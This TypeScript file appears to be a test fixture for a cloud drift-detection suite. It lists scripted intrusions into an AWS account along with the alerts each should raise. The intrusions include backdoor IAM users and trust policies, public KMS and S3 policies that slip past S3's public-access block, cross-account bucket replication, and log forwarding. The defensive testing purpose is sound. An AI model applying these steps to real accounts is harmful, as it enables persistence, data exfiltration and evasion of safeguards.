import {
  ABROAD,
  by,
  DATA,
  document,
  EVERYTHING,
  functionArgv,
  lambdaArn,
  opened,
  WORKLOAD,
  WORKLOAD_ROLE,
} from './by-hand';
import { trusting } from './data-and-roles';
import { ACCOUNT, type Breakage } from './live-target';

const STRANGER = { Principal: { AWS: `arn:aws:iam::${ABROAD}:root` } };
const LAMBDA = { Principal: { Service: 'lambda.amazonaws.com' } };

/** What somebody with an administrator's rights does by hand, as far as no other breakage is the same. */
export const INTRUSIONS: readonly Breakage[] = [
  {
    check: 'stacks-stand-as-released',
    by: 'a trust policy of the workload role that lets another account in',
    says: /AssumeRolePolicyDocument.* what no release put there: .*arn:aws:iam::333333333333:root/,
    how: (target) => trusting(target, WORKLOAD_ROLE, STRANGER, LAMBDA),
  },
  {
    check: 'roles-as-released',
    by: 'an inline s3:* on the workload role',
    says: /it has the inline policy intruder, which no release gave it/,
    how: by(
      [
        [
          ...['iam', 'put-role-policy', '--role-name', WORKLOAD_ROLE, '--policy-name', 'intruder'],
          ...['--policy-document', document({ Effect: 'Allow', Action: 's3:*', Resource: '*' })],
        ],
      ],
      [['iam', 'delete-role-policy', '--role-name', WORKLOAD_ROLE, '--policy-name', 'intruder']],
    ),
  },
  {
    check: 'nobody-else-reaches',
    by: 'a user with a key and everything allowed',
    says: /this user, which no release made, may decrypt with the data key.* read data.* change who may be the workload's role/,
    how: async (target) => {
      await target.call('iam', 'CreateUser', { UserName: 'intruder' });
      const key = await target.call('iam', 'CreateAccessKey', { UserName: 'intruder' });
      const { AccessKeyId } = key['AccessKey'] as { AccessKeyId: string };
      const named = ['--user-name', 'intruder'];
      const policy = [...named, '--policy-name', 'all'];
      await target.aws('iam', 'put-user-policy', ...policy, '--policy-document', EVERYTHING);
      return async () => {
        await target.aws('iam', 'delete-access-key', ...named, '--access-key-id', AccessKeyId);
        await target.aws('iam', 'delete-user-policy', ...policy);
        await target.aws('iam', 'delete-user', ...named);
      };
    },
  },
  {
    check: 'functions-as-released',
    by: 'a function URL without authentication',
    says: /it is reached at https?:\S+, by everybody, and no release made that URL/,
    how: by(
      [['lambda', 'create-function-url-config', '--function-name', WORKLOAD, '--auth-type', 'NONE']],
      [['lambda', 'delete-function-url-config', '--function-name', WORKLOAD]],
    ),
  },
  {
    check: 'functions-as-released',
    by: 'an invoke permission for another account',
    says: /its policy lets .*333333333333.* do lambda:InvokeFunction by the statement intruder/,
    how: by(
      [
        [
          ...['lambda', 'add-permission', '--function-name', WORKLOAD, '--statement-id', 'intruder'],
          ...['--action', 'lambda:InvokeFunction', '--principal', ABROAD],
        ],
      ],
      [['lambda', 'remove-permission', '--function-name', WORKLOAD, '--statement-id', 'intruder']],
    ),
  },
  {
    check: 'stacks-stand-as-released',
    by: 'a key policy opened under a condition that anybody can meet',
    says: /it has at \/KeyPolicy\/Statement\/\d what no release put there: .*kms:Decrypt/,
    how: (target) =>
      opened(target, ['kms', target.keyArn('DataKey')], {
        Effect: 'Allow',
        Principal: { AWS: '*' },
        Action: 'kms:Decrypt',
        Resource: '*',
        Condition: { Bool: { 'aws:SecureTransport': 'true' } },
      }),
  },
  {
    check: 'stacks-stand-as-released',
    by: 'a bucket policy opened under a condition that anybody can meet',
    says: /it has at \/PolicyDocument\/Statement\/\d+ what no release put there: .*s3:GetObject/,
    how: (target) =>
      opened(target, ['s3', DATA], {
        Effect: 'Allow',
        Principal: '*',
        Action: 's3:GetObject',
        Resource: `arn:aws:s3:::${DATA}/*`,
        // S3 blocks policies for everybody, but takes this one for none.
        Condition: { IpAddress: { 'aws:SourceIp': Array.from({ length: 256 }, (_, first) => `${first}.0.0.0/8`) } },
      }),
  },
  {
    check: 'buckets-copy-nowhere',
    by: "the data bucket's replication abroad",
    says: /its objects are copied to arn:aws:s3:::abroad, which no release said/,
    how: by(
      [
        [
          ...['s3api', 'put-bucket-replication', '--bucket', DATA, '--replication-configuration'],
          JSON.stringify({
            Role: `arn:aws:iam::${ACCOUNT}:role/${WORKLOAD_ROLE}`,
            Rules: [
              {
                ID: 'abroad',
                Status: 'Enabled',
                Priority: 1,
                Filter: { Prefix: '' },
                DeleteMarkerReplication: { Status: 'Disabled' },
                Destination: { Bucket: 'arn:aws:s3:::abroad', Account: ABROAD },
              },
            ],
          }),
        ],
      ],
      [['s3api', 'delete-bucket-replication', '--bucket', DATA]],
    ),
  },
  {
    check: 'functions-of-others',
    by: 'a new function with the workload role',
    says: /it runs as the role data-processing-dev-us-east-1, and no release made it/,
    how: async (target) =>
      by([functionArgv('intruder')], [['lambda', 'delete-function', '--function-name', 'intruder']])(target),
  },
  {
    check: 'log-groups-forward-nowhere',
    by: "a subscription filter that sends the trail's events on",
    says: /its events are sent on to arn:aws:lambda:us-east-1:222222222222:function:forwarder by the filter intruder/,
    how: async (target) =>
      by(
        [
          functionArgv('forwarder'),
          [
            ...['lambda', 'add-permission', '--function-name', 'forwarder', '--statement-id', 'logs'],
            ...['--action', 'lambda:InvokeFunction', '--principal', 'logs.amazonaws.com'],
          ],
          [
            ...['logs', 'put-subscription-filter', '--log-group-name', '/data/dev/trail', '--filter-name', 'intruder'],
            ...['--filter-pattern', '', '--destination-arn', lambdaArn('forwarder')],
          ],
        ],
        [
          ['logs', 'delete-subscription-filter', '--log-group-name', '/data/dev/trail', '--filter-name', 'intruder'],
          ['lambda', 'delete-function', '--function-name', 'forwarder'],
        ],
      )(target),
  },
  {
    check: 'tags-of-others',
    by: "a topic with the environment's tags",
    says: /it carries the tags of dev, and no release made it/,
    how: by(
      [
        [
          ...['sns', 'create-topic', '--name', 'impostor', '--tags'],
          ...['Key=Environment,Value=dev', 'Key=Application,Value=zero-trust-delivery'],
        ],
      ],
      [['sns', 'delete-topic', '--topic-arn', `arn:aws:sns:us-east-1:${ACCOUNT}:impostor`]],
    ),
  },
];
